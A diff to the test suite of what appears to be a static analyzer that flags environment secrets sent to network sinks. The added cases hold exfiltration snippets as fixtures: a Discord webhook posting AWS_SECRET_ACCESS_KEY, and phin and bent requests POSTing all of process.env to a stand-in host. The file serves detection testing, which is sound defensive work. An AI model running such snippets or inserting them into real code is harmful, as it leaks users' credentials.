@@ -59,7 +59,31 @@ describe('unmodelledSend', () => {
       'import os, ftplib, io\nftp = ftplib.FTP_TLS("ftp.example.net")\nftp.storbinary("STOR e", io.BytesIO(str(os.environ).encode()))',
       ['env:* -> net:ftp.example.net'],
     ],
+    [
+      'a message object fired later',
+      'python',
+      'import os\nfrom discord_webhook import DiscordWebhook\nw = DiscordWebhook(url="https://discord.com/api/webhooks/1/a", content=os.environ["AWS_SECRET_ACCESS_KEY"])\nw.execute()',
+      ['env:AWS_SECRET_ACCESS_KEY -> net:discord.com'],
+    ],
+    [
+      'a request written as options',
+      'node',
+      "const phin = require('phin');\nphin({ url: 'https://c.example.net/in', method: 'POST', data: process.env });",
+      ['env:* -> net:c.example.net'],
+    ],
+    [
+      'a function made for a URL and POST',
+      'node',
+      "const bent = require('bent');\nbent('https://c.example.net', 'POST')('/in', process.env);",
+      ['env:* -> net:c.example.net'],
+    ],
     // The client's own credential, in its auth slots or its making, is not data.
+    [
+      'a credential nested in options',
+      'node',
+      "const wp = require('web-push');\nwp.sendNotification(s, 'hi', { vapidDetails: { privateKey: process.env.VAPID_PRIVATE_KEY } });",
+      [],
+    ],
     [
       'credentials in the making and auth slots',
       'python',
